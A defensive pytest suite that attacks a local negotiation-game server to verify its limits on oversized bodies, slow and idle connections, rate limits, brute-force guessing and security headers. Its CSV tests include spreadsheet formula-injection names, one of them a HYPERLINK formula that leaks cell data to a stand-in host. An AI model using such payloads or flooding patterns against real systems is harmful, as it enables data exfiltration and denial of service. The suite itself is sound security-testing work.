"""A hostile network against a real ``zopa serve``: each limit of docs/security.md, attacked.

Attackers speak from other loopback addresses (127.0.0.2 and up stand for other
machines on the Wi-Fi) while /healthz is probed from 127.0.0.1. Timeouts are set short
so each attack ends in seconds; counts and caps are the defaults unless a test says.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
import websockets

from bench.attacks import (
    Crowd,
    guess,
    hello,
    http_call,
    huge_body,
    idle_sockets,
    memory_kb,
    practice_flood,
    raise_file_limit,
    slow_headers,
    ws_exchange,
)
from tests.live import KEY, Player, Server, open_session
from tests.virtual_time import VirtualServer, virtual_time

GiB = 1 << 30


@pytest.fixture(scope="module")
def fast(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose deadlines run out in a second or two, and logs counts every second.

    Shared by the attacks below, each from addresses of its own (127.0.0.2 and up).
    """
    live = Server(
        tmp_path_factory.mktemp("hostile") / "zopa.db",
        ZOPA_HEADER_SECONDS="2",
        ZOPA_HELLO_SECONDS="2",
        ZOPA_BODY_SECONDS="1",
        ZOPA_REFUSAL_LOG_SECONDS="1",
    )
    live.start()
    yield live
    live.stop()


def pid(server: Server) -> int:
    assert server.process is not None
    return server.process.pid


def log_lines(server: Server, text: str) -> list[str]:
    return [line for line in server.log.read_text().splitlines() if text in line]


async def logged(server: Server, text: str, timeout: float = 5.0) -> list[str]:
    """The log lines holding ``text``, once there is one (the log is a file: it is read)."""
    deadline = asyncio.get_running_loop().time() + timeout
    while not (found := log_lines(server, text)):
        assert asyncio.get_running_loop().time() < deadline, f"never logged: {text!r}"
        await asyncio.sleep(0.05)
    return found


def healthy(crowd: Crowd) -> None:
    """Every /healthz probe during the attack answered, nearly all within a second.

    Nearly: the CI machine's two cores run the attacker, the server and the suite, and a
    probe that waited its turn for a core says nothing about the server. Before these
    limits no probe answered at all once the server ran out of files.
    """
    assert crowd.probes, "no probe ran"
    assert None not in crowd.probes, crowd.summary()
    quick = sum(1 for p in crowd.probes if p is not None and p < 1.0)
    assert quick >= 0.9 * len(crowd.probes), crowd.summary()


# ---- 1. bodies ----------------------------------------------------------------------


async def test_a_gigabyte_body_is_refused_as_it_arrives(fast: Server) -> None:
    before = memory_kb(pid(fast))
    # Declared: refused before a byte of it is read.
    status, sent = await huge_body(fast.port, GiB)
    assert status == 413 and sent == 0
    # Chunked, so no length to go by: refused once 16 KiB have been counted. The client
    # is still sending then, so its kernel may drop the answer for the reset that ends
    # the connection: what counts is that the server stopped reading.
    status, sent = await huge_body(fast.port, GiB, chunked=True)
    assert status in (413, None) and sent < 64 << 20
    grown = memory_kb(pid(fast))["VmHWM"] - before["VmHWM"]
    assert grown < 5 * 1024, f"peak memory grew by {grown} KB"
    # A body that trickles in is cut off when its second is up.
    reader, writer = await asyncio.open_connection("127.0.0.1", fast.port)
    writer.write(b"POST /api/practice HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{")
    answer = await asyncio.wait_for(reader.read(), 5)
    assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
    writer.close()
    assert (await http_call(fast.port, "GET", "/healthz"))[0] == 200


# ---- 2. connections -----------------------------------------------------------------


async def test_slow_headers_are_capped_per_address_and_cut_at_the_deadline(fast: Server) -> None:
    raise_file_limit()
    crowd = await slow_headers(fast.port, "127.0.0.2", 4000, 2.5, 0.5, pid(fast))
    healthy(crowd)
    # The address's cap (1,000) turned the rest away at once (503), and the header
    # deadline (2 s) cut each one let in (408): none was left holding a connection.
    assert crowd.held == 0, crowd.summary()
    assert crowd.answers[503] + crowd.answers[408] == 4000, crowd.answers
    assert crowd.answers[408] == len(crowd.cut) and min(crowd.cut) > 1.0, crowd.summary()
    assert crowd.peak_files < 1100, crowd.summary()
    # Logged as counts: a line a second at most, not a line per connection.
    assert len(log_lines(fast, "over its address's cap")) < crowd.answers[503] / 50


async def test_idle_sockets_on_one_token_are_capped_per_address_and_per_player(
    fast: Server,
) -> None:
    raise_file_limit()
    status, _, body = await http_call(
        fast.port, "POST", "/api/practice", {"name": "Idle", "scenario": "guitar"}
    )
    assert status == 201
    token = json.loads(body)["token"]
    hello_ = {"type": "hello", "token": token}
    crowd = await idle_sockets(fast.port, "127.0.0.3", 16000, 1.5, hello_, pid(fast))
    healthy(crowd)
    # The address may hold 1,000 sockets and open 2,000 at once, then 50 a second: the
    # rest were turned away before the handshake (503). Of those let in, the player kept
    # the newest 4, each newer one replacing an older one (4409).
    assert crowd.held == 4, crowd.summary()
    assert crowd.answers[503] + crowd.answers[4409] == 16000 - 4, crowd.answers
    assert crowd.answers[503] >= 16000 // 3, crowd.answers
    assert crowd.peak_files < 1100, crowd.summary()
    # The player is still served: a fresh socket from their own address gets in.
    code = await ws_exchange(fast.port, [hello(token)], wait=0.5)
    assert code == "open"


async def test_the_overall_cap_turns_away_sockets_it_cannot_hold(tmp_path: Path) -> None:
    raise_file_limit()
    server = Server(tmp_path / "zopa.db", ZOPA_MAX_CONNECTIONS="300", ZOPA_HELLO_SECONDS="3")
    server.start()
    try:
        crowds = await asyncio.gather(
            *(idle_sockets(server.port, f"127.0.0.{n}", 120, 1.0, None) for n in (4, 5, 6))
        )
        held = sum(c.held for c in crowds)
        refused = sum(c.refused for c in crowds)
        assert held + refused == 360 and 250 <= held <= 300, [c.summary() for c in crowds]
        # Once they are gone, everyone is served again.
        assert (await http_call(server.port, "GET", "/healthz"))[0] == 200
    finally:
        server.stop()


async def test_websockets_behind_the_proxy_are_capped_by_the_forwarded_address(
    tmp_path: Path,
) -> None:
    server = Server(tmp_path / "zopa.db", ZOPA_MAX_CONNECTIONS_PER_ADDRESS="5")
    server.start()
    sockets = []
    try:
        # 127.0.0.1 is the trusted proxy: its own address is not capped, each player's is.
        for _ in range(5):
            forwarded = {"X-Forwarded-For": "203.0.113.7"}
            sockets.append(await websockets.connect(server.ws_url, additional_headers=forwarded))
        with pytest.raises(websockets.InvalidStatus) as refused:
            await websockets.connect(
                server.ws_url, additional_headers={"X-Forwarded-For": "203.0.113.7"}
            )
        assert refused.value.response.status_code == 429
        assert refused.value.response.headers["Retry-After"] == "10"
        other = {"X-Forwarded-For": "203.0.113.8"}
        sockets.append(await websockets.connect(server.ws_url, additional_headers=other))
    finally:
        for socket in sockets:
            await socket.close()
        server.stop()


@virtual_time
async def test_a_newer_socket_of_a_player_replaces_the_oldest(server: VirtualServer) -> None:
    code = await open_session(server, "guitar")
    ana = await Player(server, code, "Ana").join()
    first = Player(server, code, "Ana")
    first.token = ana.token
    await first.connect()
    for _ in range(4):
        await Player(server, code, "Ana").join()  # others' sockets do not count
        await ana.connect()
    with pytest.raises(websockets.ConnectionClosed) as closed:
        await first.c.next(5)
    assert closed.value.rcvd is not None and closed.value.rcvd.code == 4409
    await ana.send({"type": "ping"})
    assert (await ana.c.type("pong"))["type"] == "pong"


# ---- 3. rate limits -----------------------------------------------------------------


async def test_a_class_behind_one_address_joins_while_floods_and_guesses_are_cut_off(
    fast: Server,
) -> None:
    code = await open_session(fast, "guitar")
    # 200 joins from one school address, at once: all in.
    joins = await asyncio.gather(
        *(
            http_call(
                fast.port,
                "POST",
                f"/api/sessions/{code}/players",
                {"name": f"P{n}"},
                source="127.0.0.5",
            )
            for n in range(200)
        )
    )
    assert [status for status, _, _ in joins] == [201] * 200

    # Practice games with no login, in a loop: 60 at once, then 429 with Retry-After.
    flood = await practice_flood(fast.port, 30.0, source="127.0.0.6", refusals=5)
    assert 60 <= flood.games <= 62 and flood.refused >= 5, flood
    assert all(value.isdigit() and int(value) >= 1 for value in flood.retry_after), flood

    # Wrong codes, keys and tokens: 30 looked at (and one more every 2 s), then refused.
    codes = await guess(fast.port, "code", attempts=40, source="127.0.0.7")
    assert 30 <= codes.answers[404] <= 33 and codes.answers[429] >= 5, codes.answers
    keys = await guess(fast.port, "key", attempts=40, source="127.0.0.8")
    assert 30 <= keys.answers[401] <= 33 and keys.answers[429] >= 5, keys.answers
    tokens = await guess(fast.port, "token", attempts=40, source="127.0.0.9")
    assert 30 <= tokens.answers[4401] <= 33 and tokens.answers[4429] >= 5, tokens.answers

    # While locked out, even the right key is not looked at from there; elsewhere it works.
    status, headers, _ = await http_call(
        fast.port, "GET", f"/api/sessions/{code}", bearer=KEY, source="127.0.0.8"
    )
    assert status == 429 and int(headers["retry-after"]) >= 1
    assert (await http_call(fast.port, "GET", f"/api/sessions/{code}", bearer=KEY))[0] == 200

    # Each kind of failure is logged once a period (a second here), then as a count.
    full = log_lines(fast, '"hello with an unknown token"')
    assert 1 <= len(full) < tokens.answers[4401], full
    counted = await logged(fast, "hello with an unknown token: ")
    assert "from 1 address" in counted[0]


async def test_rate_limits_off_lifts_every_per_address_limit(tmp_path: Path) -> None:
    server = Server(
        tmp_path / "zopa.db", ZOPA_RATE_LIMITS="off", ZOPA_MAX_CONNECTIONS_PER_ADDRESS="10"
    )
    server.start()
    try:
        codes = await guess(server.port, "code", attempts=40, source="127.0.0.7")
        assert codes.answers == {404: 40}, codes.answers
        flood = await practice_flood(server.port, 30.0, source="127.0.0.6", games=64)
        assert flood.refused == 0 and flood.games >= 64, flood
        crowd = await idle_sockets(server.port, "127.0.0.3", 30, 1.0, None)
        assert crowd.held == 30, crowd.summary()
    finally:
        server.stop()


def test_a_short_facilitator_key_is_refused_at_start(tmp_path: Path) -> None:
    server = Server(tmp_path / "zopa.db", ZOPA_FACILITATOR_KEY="a")
    with pytest.raises(RuntimeError, match="exited at start-up") as failed:
        server.start()
    assert "ZOPA_FACILITATOR_KEY must be at least 16 characters (it has 1)" in str(failed.value)


# ---- 4. practice retention --------------------------------------------------------------


async def test_ended_practice_games_leave_memory_then_the_database(tmp_path: Path) -> None:
    server = Server(
        tmp_path / "zopa.db",
        ZOPA_PRACTICE_LINGER_SECONDS="0.5",
        ZOPA_PRACTICE_RETENTION_SECONDS="3",
        ZOPA_PRACTICE_SWEEP_SECONDS="0.2",
    )
    server.start()
    try:
        kept = await open_session(server, "guitar")
        answer = await server.acall(
            "POST", "/api/practice", {"name": "Solo", "scenario": "guitar"}, key=None
        )
        solo = Player(server, answer["code"], "Solo")
        solo.id, solo.token = answer["player"], answer["token"]
        await solo.connect()
        await solo.send({"type": "walkout"})
        await solo.c.type("ended")
        await solo.c.close()
        # Its session leaves memory once the linger is over (the facilitator's stays)...
        deadline = asyncio.get_running_loop().time() + 10
        while server.call("GET", "/healthz", key=None)[1]["sessions"] != 1:
            assert asyncio.get_running_loop().time() < deadline, "never left memory"
            await asyncio.sleep(0.1)
        await logged(server, "1 left memory")
        # ...comes back from the database if its player asks while it is still there...
        assert server.call("GET", "/api/me/history", key=solo.token)[0] == 200
        # ...and its rows, log and all, go once the retention is over.
        with sqlite3.connect(server.database) as db:
            while db.execute("SELECT count(*) FROM games").fetchone()[0] > 0:
                assert asyncio.get_running_loop().time() < deadline, "never pruned"
                await asyncio.sleep(0.1)
            assert db.execute("SELECT code FROM sessions").fetchall() == [(kept,)]
            assert db.execute("SELECT count(*) FROM events").fetchone()[0] == 0
            assert db.execute("SELECT count(*) FROM players").fetchone()[0] == 0
        await logged(server, "left the database")
        # Gone from both, its token opens nothing.
        while server.call("GET", "/api/me/history", key=solo.token)[0] == 200:
            assert asyncio.get_running_loop().time() < deadline, "token still works"
            await asyncio.sleep(0.1)
        assert server.call("GET", "/healthz", key=None)[1]["sessions"] == 1
    finally:
        server.stop()


# ---- 5. protocol errors -------------------------------------------------------------------


async def test_protocol_errors_are_one_line_without_a_traceback(fast: Server) -> None:
    for _ in range(20):
        assert await ws_exchange(fast.port, [b'{"type": "hello", "token": "\xff"}']) == 1007
    for _ in range(5):
        reader, writer = await asyncio.open_connection("127.0.0.1", fast.port)
        writer.write(b"NOT HTTP AT ALL\r\n\r\n")
        assert (await asyncio.wait_for(reader.read(), 5)).startswith(b"HTTP/1.1 400")
        writer.close()
    counted = await logged(fast, "invalid UTF-8 in a text frame: 19 more")
    assert len(counted) == 1
    assert len(log_lines(fast, "invalid HTTP request")) == 2  # the first, then the count
    assert "Traceback" not in fast.log.read_text()


# ---- 6. security headers ------------------------------------------------------------------

EXPECTED = {
    "content-security-policy": "default-src 'self'; script-src 'self'; style-src 'self'; "
    "img-src 'self' blob: data:; connect-src 'self'; object-src 'none'; base-uri 'none'; "
    "form-action 'self'; frame-ancestors 'none'",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
}


async def test_every_page_and_api_answer_has_the_security_headers(fast: Server) -> None:
    calls = [
        ("GET", "/", None, None),
        ("GET", "/facilitator.html", None, None),
        ("GET", "/standings.html", None, None),
        ("GET", "/replay.html", None, None),
        ("GET", "/js/player.js", None, None),
        ("GET", "/zopa.css", None, None),
        ("GET", "/no-such-file", None, None),
        ("GET", "/healthz", None, None),
        ("GET", "/api/scenarios", None, None),
        ("GET", "/api/sessions/ABCDEF", None, "wrong"),
        ("POST", "/api/sessions/ABCDEF/players", {"name": "x"}, None),
        ("POST", "/api/practice", {"x": "y" * 20_000}, None),
    ]
    statuses = set()
    for method, path, body, bearer in calls:
        status, headers, _ = await http_call(fast.port, method, path, body, bearer)
        statuses.add(status)
        for name, value in EXPECTED.items():
            assert headers.get(name) == value, (path, name, headers.get(name))
    assert statuses == {200, 401, 404, 413}


def test_no_page_has_inline_script_style_or_handlers() -> None:
    from html.parser import HTMLParser

    class Inline(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.found: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            names = dict(attrs)
            if tag == "script" and "src" not in names:
                self.found.append("an inline <script>")
            if tag == "style":
                self.found.append("a <style> block")
            self.found += [f"{tag} {n}=" for n in names if n == "style" or n.startswith("on")]

    pages = sorted((Path(__file__).resolve().parent.parent / "client_web").glob("*.html"))
    assert len(pages) >= 4
    for page in pages:
        checker = Inline()
        checker.feed(page.read_text())
        assert checker.found == [], (page.name, checker.found)


# ---- 7. CSV ---------------------------------------------------------------------------------

NAMES = ['=HYPERLINK("//ev.il/"&A2,"x")', "+1+2", "@SUM(1,2)", "-2+3"]


@virtual_time
async def test_names_that_are_formulas_reach_both_exports_as_text(server: VirtualServer) -> None:
    code = await open_session(server, "guitar")
    players = [await Player(server, code, name).join() for name in NAMES]
    for player in players:
        await player.connect()
    await server.acall("POST", f"/api/sessions/{code}/rounds")
    games: dict[str, Player] = {}
    for player in players:
        games.setdefault((await player.c.type("game"))["game"], player)
    for player in games.values():
        await player.send({"type": "walkout"})
    for player in players:
        await player.c.type("ended")

    status, text = await server.ask("GET", f"/api/sessions/{code}/results.csv")
    assert status == 200 and isinstance(text, str)
    rows = list(csv.DictReader(io.StringIO(text)))
    seats = {row[f"{role}_player"] for row in rows for role in ("seller", "buyer")}
    assert seats == {"'" + name for name in NAMES}
    status, text = await server.ask("GET", f"/api/sessions/{code}/export.csv")
    assert status == 200 and isinstance(text, str)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["name"] for row in rows} == {"'" + name for name in NAMES}
    assert {row["partner_name"] for row in rows} == {"'" + name for name in NAMES}
    for row in rows:
        for cell in row.values():
            numeric = cell.lstrip("-").replace(".", "", 1).isdigit()
            assert numeric or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_csv_writer_keeps_numbers_and_guards_every_formula_start() -> None:
    from zopa.server.csv_export import csv_text

    cells: list[str | float | None] = ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "plain", -12.5, -3]
    cells.append(None)
    rows = list(csv.reader(io.StringIO(csv_text(["a"] * len(cells), [cells]))))
    assert rows[1] == ["'=1", "'+1", "'-1", "'@1", "'\t=1", "'\r=1", "plain", "-12.5", "-3", ""]


# ---- the websocket's Origin -------------------------------------------------------------------


@virtual_time
async def test_a_socket_from_another_origin_still_needs_a_token(server: VirtualServer) -> None:
    """Origin is not checked (docs/security.md): a socket carries no cookie, only a token."""
    code = await open_session(server, "guitar")
    ana = await Player(server, code, "Ana").join()
    foreign = {"origin": "https://elsewhere.example"}
    welcome = await ana.connect(additional_headers=foreign)
    assert welcome["player"] == ana.id
    async with websockets.connect(server.ws_url, additional_headers=foreign) as socket:
        await socket.send(json.dumps({"type": "hello", "token": "guess"}))
        with pytest.raises(websockets.ConnectionClosed) as closed:
            await socket.recv()
        assert closed.value.rcvd is not None and closed.value.rcvd.code == 4401
